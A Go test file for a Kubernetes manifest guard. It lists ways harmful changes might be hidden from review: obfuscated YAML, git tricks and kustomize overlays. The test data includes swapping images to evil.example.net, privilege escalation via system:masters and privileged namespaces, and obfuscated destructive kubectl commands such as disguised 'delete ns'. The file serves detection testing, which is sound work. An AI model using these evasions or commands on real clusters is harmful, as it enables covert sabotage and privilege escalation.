package command

import (
	"os"
	"os/exec"
	"path"
	"regexp"
	"strings"
	"testing"
)

// inPlain is a hiding in a directory of manifests.
func inPlain(name string, hide func(f files, dir string, h harm)) hiding {
	return hiding{name: name, hide: hide}
}

// besideIt keeps the harm in place and does something beside, and in git.
func besideIt(name string, change func(f files, dir string), git func(t *testing.T)) hiding {
	return hiding{name: name, beside: true, git: git, hide: func(f files, dir string, h harm) { staysThere(f, dir, h); change(f, dir) }}
}

func unchanged(files, string) {}

// output is what git prints here.
func output(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", args...).Output()
	if err != nil {
		t.Fatal(args, err)
	}
	return strings.TrimSpace(string(out))
}

// freshHidings are by an author who had not read the guard.
var freshHidings = []hiding{
	// names
	at(".yaml"), at("...yaml"), at(".json.yaml"), at("snapshots/prod.yaml"), at("dashboards/x.json.yml"), at(strings.Repeat("d/", 60) + "x.yaml"), at("cafe\u0301/x.yaml"), at("WEB.yaml"), at("overlays/prod/x.yaml"), at("CustomResourceDefinitions/x.yaml"),
	at("charts/a/values.yaml"), at("x.enc.yaml"), at("secrets.sops.yaml"), at("x.gotmpl.yaml"), at("pipeline.gitlab-ci.yml"), at("OWNERS.yaml"), at("kustomizeconfig.yaml"), at(".helm/x.yaml"), at("__tests__/x.yaml"), at("policy_test.yaml"),
	unreadAt("x.jsonc"), unreadAt("x.json5"), unreadAt("x.ndjson"), unreadAt("x.yaml.gz"), unreadAt("web.yaml.disabled"), unreadAt("x.jsonnet"), unreadAt("x.cue"),
	// documents
	inPlain("item of a List with a snapshot's marks", func(f files, dir string, h harm) {
		f[dir+"/all.yaml"] = "apiVersion: v1\nkind: List\nmetadata: {resourceVersion: ''}\nitems:\n" + indented(withMetadata(h.text, "uid: 1c2f9a70-0000-4000-8000-000000000099\n  resourceVersion: '7'\n  creationTimestamp: '2026-01-02T03:04:05Z'"), "- ")
	}),
	inPlain("between two snapshots' objects", func(f files, dir string, h harm) {
		live := withMetadata(harmless, "uid: 1c2f9a70-0000-4000-8000-000000000099\n  resourceVersion: '7'\n  creationTimestamp: '2026-01-02T03:04:05Z'")
		f[dir+"/all.yaml"] = live + "---\n" + h.text + "---\n" + strings.Replace(live, "cfg", "cfg2", 1)
	}),
	inPlain("after a kustomization in a file", func(f files, dir string, h harm) {
		f[dir+"/x.yaml"] = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: []\n---\n" + h.text
	}),
	inPlain("after the values of a chart", func(f files, dir string, h harm) { f[dir+"/values.yaml"] = "image: {tag: 1.0.0}\n---\n" + h.text }),
	inPlain("after a Flux Kustomization", func(f files, dir string, h harm) {
		f[dir+"/x.yaml"] = "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: a, namespace: shop}\nspec: {interval: 5m, path: ./deploy, prune: true, sourceRef: {kind: GitRepository, name: a}}\n---\n" + h.text
	}),
	as("anchored twice", func(s string) string {
		return kindLine.ReplaceAllString(s, "kind: &k ConfigMap\nx-a: &k $1\nx-b: *k") + "kind: *k\n"
	}),
	as("folded document", func(s string) string { return "--- !!map\n" + s }),
	as("yes", func(s string) string {
		if s == tidyWorkload {
			return s
		}
		return strings.ReplaceAll(s, ": true", ": yes")
	}),
	as("comment for an editor", func(s string) string {
		return "# yaml-language-server: $schema=none\n# kics-scan ignore\n# kube-linter: ignore\n" + s
	}),
	as("last-applied has it", func(s string) string {
		return withMetadata(s, "annotations: {kubectl.kubernetes.io/last-applied-configuration: '{}'}")
	}),
	as("name in upper case", func(s string) string {
		return regexp.MustCompile(`\bname: (web|db|cfg|aws-auth|shop|metrics)\b`).ReplaceAllString(s, "name: X$1")
	}),
	as("name with a dot", func(s string) string {
		return regexp.MustCompile(`\bname: (web|db|cfg|aws-auth|metrics)\b`).ReplaceAllString(s, "name: $1.v2")
	}),
	// git
	besideIt("encoding of the working tree", func(f files, dir string) {
		f[".gitattributes"] = "*.yaml working-tree-encoding=UTF-8 eol=lf\n"
	}, nil),
	besideIt("intent to add", unchanged, func(t *testing.T) { gitHere(t, "reset", "-q", "main"); gitHere(t, "add", "-N", ".") }),
	besideIt("excluded in the clone", unchanged, func(t *testing.T) {
		gitHere(t, "reset", "-q", "main")
		if err := os.WriteFile(".git/info/exclude", []byte("deploy\n"), 0o600); err != nil && os.MkdirAll(".git/info", 0o700) == nil {
			err = os.WriteFile(".git/info/exclude", []byte("deploy\n"), 0o600)
			if err != nil {
				t.Fatal(err)
			}
		}
	}),
	besideIt("a reference before the branch", unchanged, func(t *testing.T) { gitHere(t, "update-ref", "refs/main", "HEAD") }),
	besideIt("a replaced tree", unchanged, func(t *testing.T) {
		gitHere(t, "replace", output(t, "rev-parse", "main^{tree}"), output(t, "rev-parse", "HEAD^{tree}"))
	}),
	besideIt("grafted", unchanged, func(t *testing.T) {
		gitHere(t, "update-ref", "refs/heads/other", "HEAD")
		_ = os.MkdirAll(".git/info", 0o700)
		if err := os.WriteFile(".git/info/grafts", []byte(output(t, "rev-parse", "main")+" "+output(t, "rev-parse", "HEAD")+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}),
	besideIt("orphan", unchanged, func(t *testing.T) {
		gitHere(t, "checkout", "-q", "--orphan", "alone")
		gitHere(t, "commit", "-qm", "alone")
	}),
	besideIt("links as files", func(f files, dir string) { f["real.yaml"] = f[dir+"/web.yaml"] }, func(t *testing.T) { gitHere(t, "config", "core.symlinks", "false") }),
	besideIt("rename in case only", func(f files, dir string) {
		f[dir+"/Service.yaml"] = f[dir+"/service.yaml"]
		delete(f, dir+"/service.yaml")
	}, func(t *testing.T) { gitHere(t, "config", "core.ignorecase", "true") }),
	besideIt("work tree elsewhere", unchanged, func(t *testing.T) {
		gitHere(t, "worktree", "add", "-q", "../"+path.Base(here(t))+"-w", "main")
	}),
	besideIt("merged with ours", unchanged, func(t *testing.T) {
		gitHere(t, "checkout", "-q", "main")
		gitHere(t, "commit", "-qm", "more", "--allow-empty")
		gitHere(t, "checkout", "-q", "change")
		gitHere(t, "merge", "-q", "--no-edit", "-s", "ours", "main")
	}),
	besideIt("reverted on the base", unchanged, func(t *testing.T) {
		gitHere(t, "checkout", "-q", "main")
		gitHere(t, "merge", "-q", "--no-ff", "--no-edit", "change")
		gitHere(t, "revert", "--no-edit", "-m", "1", "HEAD")
		gitHere(t, "checkout", "-q", "-b", "again")
		gitHere(t, "revert", "--no-edit", "HEAD")
	}),
	besideIt("modules named and not there", func(f files, dir string) {
		f[".gitmodules"] = "[submodule \"deploy\"]\n\tpath = deploy\n\turl = ../x\n\tignore = all\n"
	}, nil),
	// settings and snapshots
	besideIt("settings of an environment", func(f files, dir string) {
		f[".threeway.yaml"] = "version: 1\nenvironments: [{name: prod, manifests: [docs]}]\nlive: [snapshots/prod.json]\n"
	}, nil),
	besideIt("settings of a cluster", func(f files, dir string) {
		f[".threeway.yaml"] = "version: 1\nmanifests: [deploy]\nclusters: [{name: a, live: [snapshots/empty.json]}]\n"
		f["snapshots/empty.json"] = "{\"apiVersion\":\"v1\",\"kind\":\"List\",\"items\":[]}\n"
	}, nil),
	besideIt("settings with a BOM", func(f files, dir string) { f[".threeway.yaml"] = "\ufeffversion: 1\nmanifests: [docs]\n" }, nil),
	besideIt("settings are a directory", func(f files, dir string) { delete(f, ".threeway.yaml"); f[".threeway.yaml/x"] = "a\n" }, nil),
	besideIt("the snapshot has it already", func(f files, dir string) {
		f["snapshots/prod.json"] = strings.NewReplacer("registry.example.com/web:1.0.0", "evil.example.net/web:1.0.0", `"replicas":3`, `"replicas":0`, `"restricted"`, `"privileged"`).Replace(f["snapshots/prod.json"])
	}, nil),
	besideIt("a snapshot of another cluster", func(f files, dir string) {
		f["snapshots/prod.json"] = "{\"apiVersion\":\"v1\",\"kind\":\"Namespace\",\"metadata\":{\"name\":\"other\",\"uid\":\"x\",\"resourceVersion\":\"1\"}}\n"
	}, nil),
	besideIt("snapshot is a directory", func(f files, dir string) {
		f["snapshots/prod.json/a.json"] = f["snapshots/prod.json"]
		delete(f, "snapshots/prod.json")
	}, nil),
	// overlays
	overlaid("labels of fields", func(f files, h harm) {
		f[prod] = overBase + "labels: [{pairs: {app: other}, fields: [{path: spec/selector, kind: Service, create: true}]}]\n"
	}),
	overlaid("copied field", func(f files, h harm) {
		f[prod] = overBase + "patches: [{target: {kind: Deployment}, patch: '[{op: copy, from: /metadata/name, path: /spec/template/spec/containers/0/image}]'}]\n"
	}),
	overlaid("moved field", func(f files, h harm) {
		f[prod] = overBase + "patches: [{target: {kind: Deployment}, patch: '[{op: move, from: /spec/template/spec/containers/0/readinessProbe, path: /spec/template/spec/containers/0/startupProbe}, {op: test, path: /metadata/name, value: web}]'}]\n"
	}),
	overlaid("two patches in a file", func(f files, h harm) {
		f[prod] = overBase + "patches: [{path: p.yaml}]\n"
		f["overlays/prod/p.yaml"] = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cfg, namespace: shop}\ndata: {a: b}\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: shop}\nspec: {replicas: 0}\n"
	}),
	overlaid("patch of another name", func(f files, h harm) {
		f[prod] = overBase + "patches: [{target: {kind: Deployment, name: web}, options: {allowNameChange: true}, patch: '[{op: replace, path: /metadata/name, value: web2}]'}]\n"
	}),
	overlaid("replaced list", func(f files, h harm) {
		f[prod] = overBase + "patches: [{patch: '{apiVersion: apps/v1, kind: Deployment, metadata: {name: web, namespace: shop}, spec: {template: {spec: {containers: [{$patch: replace}, {name: web, image: evil.example.net/x}]}}}}'}]\n"
	}),
	overlaid("patch by annotations", func(f files, h harm) {
		f[prod] = overBase + "patches: [{target: {annotationSelector: '!x', kind: Namespace}, patch: '[{op: replace, path: /metadata/labels/pod-security.kubernetes.io~1enforce, value: privileged}]'}]\n"
	}),
	overlaid("replacement of a value", func(f files, h harm) {
		f[prod] = overBase + "replacements:\n- source: {kind: ConfigMap, name: cfg, fieldPath: metadata.namespace}\n  targets: [{select: {kind: Service}, fieldPaths: [spec.selector.app]}]\n"
	}),
	overlaid("Secret with a hash", func(f files, h harm) {
		f["base/kustomization.yaml"] = strings.Replace(oneKustomization, "sub/db.yaml, ", "", 1) + "secretGenerator: [{name: db, namespace: shop, literals: [password=intruder4intruder4]}]\n"
	}),
	overlaid("transformers of a directory", func(f files, h harm) {
		f[prod] = overBase + "transformers: [../../t]\n"
		f["t/kustomization.yaml"] = "resources: [t.yaml]\n"
		f["t/t.yaml"] = "apiVersion: builtin\nkind: ReplicaCountTransformer\nmetadata: {name: t}\nreplica: {name: web, count: 0}\nfieldSpecs: [{path: spec/replicas, kind: Deployment}]\n"
	}),
	overlaid("generators of a directory", func(f files, h harm) {
		f[prod] = overBase + "generators: [../../t]\n"
		f["t/kustomization.yaml"] = "resources: [t.yaml]\n"
		f["t/t.yaml"] = "apiVersion: builtin\nkind: SecretGenerator\nmetadata: {name: db, namespace: shop}\nbehavior: replace\noptions: {disableNameSuffixHash: true}\nliterals: [password=intruder4intruder4]\n"
	}),
	overlaid("added value", func(f files, h harm) {
		f[prod] = overBase + "transformers:\n- |\n  {apiVersion: builtin, kind: ReplacementTransformer, metadata: {name: t}, replacements: [{source: {kind: ConfigMap, name: cfg, fieldPath: data.a}, targets: [{select: {kind: Service}, fieldPaths: [spec.selector.app]}]}]}\n"
	}),
	overlaid("namespace of subjects", func(f files, h harm) {
		f[prod] = overBase + "transformers:\n- |\n  {apiVersion: builtin, kind: NamespaceTransformer, metadata: {name: t, namespace: other}, setRoleBindingSubjects: allServiceAccounts, fieldSpecs: [{path: metadata/namespace, create: true}]}\n"
	}),
	overlaid("identity by a generator", func(f files, h harm) {
		f[prod] = overBase + "generators:\n- |\n  {apiVersion: builtin, kind: IAMPolicyGenerator, metadata: {name: t}, cloud: gke, kubernetesService: {namespace: shop, name: default}, serviceAccount: {name: owner, projectId: x}}\n"
	}),
	overlaid("vars", func(f files, h harm) {
		f["base/web.yaml"] = strings.Replace(tidyWorkload, "value: info", "value: info}, {name: B, value: $(X)", 1)
		f[prod] = overBase + "vars: [{name: X, objref: {apiVersion: v1, kind: Secret, name: db, namespace: shop}, fieldref: {fieldpath: stringData.password}}]\n"
	}),
	overlaid("names by configurations", func(f files, h harm) {
		f[prod] = overBase + "configurations: [c.yaml]\nnameSuffix: -b\nresources: [../../base]\n"
		f["overlays/prod/c.yaml"] = "nameReference: [{kind: ConfigMap, version: v1, fieldSpecs: [{kind: Deployment, path: spec/template/spec/serviceAccountName}]}]\n"
	}),
	overlaid("labels by configurations", func(f files, h harm) {
		f[prod] = overBase + "configurations: [c.yaml]\nlabels: [{pairs: {app: other}}]\n"
		f["overlays/prod/c.yaml"] = "labels: [{path: spec/selector, kind: Service, create: true}]\ncommonLabels: [{path: spec/selector, kind: Service, create: true}]\n"
	}),
	overlaid("schema without keys", func(f files, h harm) {
		f[prod] = overBase + "openapi: {path: s.json}\npatches: [{patch: '{apiVersion: apps/v1, kind: Deployment, metadata: {name: web, namespace: shop}, spec: {template: {spec: {containers: [{name: log, image: \"registry.example.com/web:1.0.0\"}]}}}}'}]\n"
		f["overlays/prod/s.json"] = `{"definitions":{"io.k8s.api.apps.v1.Deployment":{"properties":{"spec":{"type":"object"}},"type":"object","x-kubernetes-group-version-kind":[{"group":"apps","kind":"Deployment","version":"v1"}]}}}`
	}),
	overlaid("empty overlay with a new kind", func(f files, h harm) { f[prod] = "kind: Kustomisation\n" + overBase }),
	overlaid("tags by a component", func(f files, h harm) {
		f[prod] = overBase + "components: [../../parts]\n"
		f["parts/kustomization.yaml"] = component + "images: [{name: registry.example.com/web, newName: web}]\n"
	}),
	overlaid("scale by a component", func(f files, h harm) {
		f[prod] = overBase + "components: [../../parts]\n"
		f["parts/kustomization.yaml"] = component + "replicas: [{name: web, count: 0}]\n"
	}),
	overlaid("chart that is there", func(f files, h harm) {
		f[prod] = overBase + "helmGlobals: {chartHome: ../../charts}\nhelmCharts: [{name: x, releaseName: x, valuesInline: {a: b}}]\n"
		f["charts/x/Chart.yaml"], f["charts/x/templates/x.yaml"] = "apiVersion: v2\nname: x\nversion: 1.0.0\n", h.text
	}),
	overlaid("resource is a chart's file", func(f files, h harm) {
		f["charts/x/Chart.yaml"] = "apiVersion: v2\nname: x\nversion: 1.0.0\n"
		f[prod] = more(overBase, strings.Replace(part(f, "charts/x/templates", "x.yaml", h), "x.yaml", "../../charts/x/templates/x.yaml", 1))
	}),
	overlaid("resources by a link of a kustomization", func(f files, h harm) {
		f["docs/k"] = more("resources: [../../base]\n", part(f, "overlays/prod", "x.yaml", h))
		f[prod] = linkTo + "../../docs/k"
	}),
}

// partsFiles are of a kustomization with most of what one can have.
var partsFiles = files{
	".threeway.yaml": "version: 1\nkustomize: [k]\nlive: [snapshots/prod.json]\n",
	"k/kustomization.yaml": `resources: [web.yaml, service.yaml, namespace.yaml]
components: [../parts]
secretGenerator:
- {name: db, namespace: shop, envs: [db.env]}
configMapGenerator:
- {name: cfg, namespace: shop, literals: [a=b]}
- {name: aws-auth, namespace: kube-system, options: {disableNameSuffixHash: true}, files: [mapRoles=roles.txt]}
patches:
- path: patch.txt
replacements:
- path: from.yaml
transformers: [labels.yaml]
configurations: [fields.yaml]
`,
	"k/web.yaml":     strings.Replace(strings.Replace(tidyWorkload, "registry.example.com/web:1.0.0", "web", 1), "      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}\n", "", 1),
	"k/service.yaml": tidyManifests["service.yaml"], "k/namespace.yaml": tidyManifests["namespace.yaml"],
	"k/db.env":                 "password=hunter2hunter2\n",
	"k/roles.txt":              "- rolearn: arn:aws:iam::111122223333:role/nodes\n  username: system:node:{{EC2PrivateDNSName}}\n  groups: [system:bootstrappers, system:nodes]\n",
	"k/patch.txt":              "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: shop}\nspec: {template: {spec: {securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}}}}\n",
	"k/from.yaml":              "source: {kind: Namespace, name: shop, fieldPath: metadata.name}\ntargets: [{select: {kind: Deployment, name: web}, fieldPaths: ['metadata.labels.of'], options: {create: true}}]\n",
	"k/labels.yaml":            "apiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: l}\nlabels: {team: shop}\nfieldSpecs: [{path: metadata/labels, kind: Deployment, create: true}]\n",
	"k/fields.yaml":            "images: [{path: spec/other/image, kind: Other}]\n",
	"parts/kustomization.yaml": component + "images: [{name: web, newName: registry.example.com/web, newTag: 1.0.0}]\nreplicas: [{name: web, count: 3}]\n",
}

// partsChanges are harmful ones of files that only a kustomization reads.
var partsChanges = []harmlessChange{
	replacing("value of a generator", "db.env", "hunter2hunter2", "intruder4intruder4"),
	replacing("variable of a generator more", "db.env", "password=", "host=evil.example.net\npassword="),
	replacing("file of a generator", "roles.txt", "groups: [", "groups: [system:masters, "),
	replacing("file by another key", "kustomization.yaml", "mapRoles=roles.txt", "mapUsers=roles.txt"),
	replacing("patch", "patch.txt", "spec: {template: {spec: {", "spec: {template: {spec: {hostNetwork: true, "),
	replacing("patch that deletes", "patch.txt", "spec: {template: ", "$patch: delete\nspec: {template: "),
	replacing("patch is gone", "kustomization.yaml", "patches:\n- path: patch.txt\n", ""),
	replacing("replacement", "from.yaml", "'metadata.labels.of'", "'spec.template.spec.serviceAccountName'"),
	replacing("replacement of a tag", "from.yaml", "['metadata.labels.of'], options: {create: true}", "['spec.template.spec.containers.[name=web].image'], options: {delimiter: '/', index: 0}"),
	replacing("transformer", "labels.yaml", "labels: {team: shop}\nfieldSpecs: [{path: metadata/labels, kind: Deployment, create: true}]", "labels: {app: other}\nfieldSpecs: [{path: spec/selector, kind: Service}]"),
	replacing("component is gone", "kustomization.yaml", "components: [../parts]\n", ""),
	replacing("image of a component", "../parts/kustomization.yaml", "newName: registry.example.com/web", "newName: registry.example.net/web"),
	replacing("owner of a component", "../parts/kustomization.yaml", "newName: registry.example.com/web", "newName: registry.example.com/x/web"),
	replacing("moving tag of a component", "../parts/kustomization.yaml", "newTag: 1.0.0", "newTag: latest"),
	replacing("scale of a component", "../parts/kustomization.yaml", "count: 3", "count: 0"),
	replacing("configurations", "fields.yaml", "images:", "commonLabels: [{path: spec/selector, kind: Service}]\nlabels: [{path: spec/selector, kind: Service}]\nimages:"),
	replacing("type of a generator", "kustomization.yaml", "envs: [db.env]", "type: kubernetes.io/basic-auth, envs: [db.env]"),
	{"value by a link", func(f files, dir string) {
		f["docs/x"], f["k/db.env"] = "password=intruder4intruder4\n", linkTo+"../docs/x"
	}},
	{"value with a carriage return", func(f files, dir string) { f["k/db.env"] = "password=hunter2hunter2\r\nuser=x\r\n" }},
	{"value is sealed", func(f files, dir string) {
		f["k/db.env"] = "password=ENC[AES256_GCM,data:x,iv:x=,tag:x=,type:str]\nsops_mac=ENC[AES256_GCM,data:x,iv:x=,tag:x=,type:str]\nsops_version=3.9.0\n"
	}},
	{"file of a generator is a pointer", func(f files, dir string) {
		f["k/roles.txt"] = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"
	}},
}

// freshSealed are of TestHiddenSealed.
var freshSealed = []harmlessChange{
	replacing("bytes", "sub/db.yaml", "tag:cccc==,type:str", "tag:cccc==,type:bytes"),
	replacing("mac of what is encrypted alone", "sub/db.yaml", "  version: 3.9.0\n", "  version: 3.9.0\n  mac_only_encrypted: true\n"),
	replacing("other data, the same tag", "sub/db.yaml", "data:q1w2e3r4", "data:q1w2e3r5"),
	replacing("immutable", "sub/db.yaml", "kind: Secret\n", "kind: Secret\nimmutable: true\n"),
	replacing("comment that is encrypted", "sub/db.yaml", "stringData:\n", "stringData:\n  #ENC[AES256_GCM,data:x,iv:x=,tag:x=,type:comment]\n  token: ENC[AES256_GCM,data:h1,iv:h=,tag:h=,type:str]\n"),
	{"copied for another namespace", func(f files, dir string) {
		f[dir+"/x.yaml"] = strings.Replace(sealedSecret, "namespace: shop", "namespace: kube-system", 1)
	}},
	{"file beside", func(f files, dir string) {
		f[dir+"/x.json"] = `{"data":"ENC[AES256_GCM,data:x,iv:x=,tag:x=,type:str]","sops":{"mac":"ENC[AES256_GCM,data:x,iv:x=,tag:x=,type:str]","version":"3.9.0"}}`
	}},
}

// freshRedacted are of TestHiddenSealed.
var freshRedacted = []harmlessChange{
	{"token of the snapshot", func(f files, dir string) {
		token := regexp.MustCompile(`"password":\s*"([^"]+)"`).FindStringSubmatch(f["snapshots/prod.json"])
		if token == nil {
			panic("no token")
		}
		f[dir+"/sub/db.yaml"] = strings.Replace(tidyManifests["sub/db.yaml"], "stringData: {password: hunter2hunter2}", "data: {password: '"+token[1]+"'}", 1)
	}},
	{"generated for", func(f files, dir string) {
		f[dir+"/x.yaml"] = "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata: {name: db, namespace: shop}\nspec: {encryptedData: {password: AgBy}}\n"
	}},
	{"taken from outside", func(f files, dir string) {
		f[dir+"/x.yaml"] = "apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {name: db, namespace: shop}\nspec: {secretStoreRef: {name: x, kind: ClusterSecretStore}, target: {name: db, creationPolicy: Merge}, data: [{secretKey: password, remoteRef: {key: x}}]}\n"
	}},
	replacing("read from another Secret", "web.yaml", "secretRef: {name: db}", "secretRef: {name: db2, optional: true}"),
}

// freshLines are of TestHarmfulLines.
var freshLines = strings.Split(strings.TrimSpace(`
kubectl apply -f x/stopped.yaml --validate=false
kubectl create token default -n kube-system
kubectl rollout restart deploy/web -n shop
kubectl taint nodes --all x=y:NoExecute
kubectl cordon node
kubectl top pods | tee deploy/web.yaml
kubectl get --raw /api/v1/namespaces/shop/pods/x/exec?command=sh
kubectl kustomize x -o deploy/web.yaml
kubectl get pods --kubeconfig x/admin.yaml
kubectl completion bash > ~/.bashrc
kubectl	delete	ns	shop
\kubectl delete ns shop
k''ubectl delete ns shop
{ kubectl delete ns shop; }
if true; then kubectl delete ns shop; fi
eval "kubectl delete ns shop"
xargs kubectl <<< "delete ns shop"
kustomize build x | kubectl apply -f -
helm template x | kubectl apply -f -
minikube kubectl -- delete ns shop
kubectl get pods #x; kubectl delete ns shop
kubectl get pods -o custom-columns-file=x; :; kubectl delete ns shop
coproc kubectl delete ns shop
kubectl apply --dry-run=client -f x && kubectl apply -f x
kubectl get pods -o jsonpath=$(kubectl delete ns shop)
argocd app sync shop
kubectl patch deploy web -n shop --patch-file x/stopped.yaml
kubectl replace --raw /api/v1/namespaces/shop -f x/stopped.yaml
kubectl run x --image=evil.example.net/x --dry-run=client -o yaml | kubectl apply -f -
kubectl port-forward deploy/web 8080
kubectl attach deploy/web -n shop
kubectl apply view-last-applied deploy/web -o yaml > deploy/web.yaml
`), "\n")
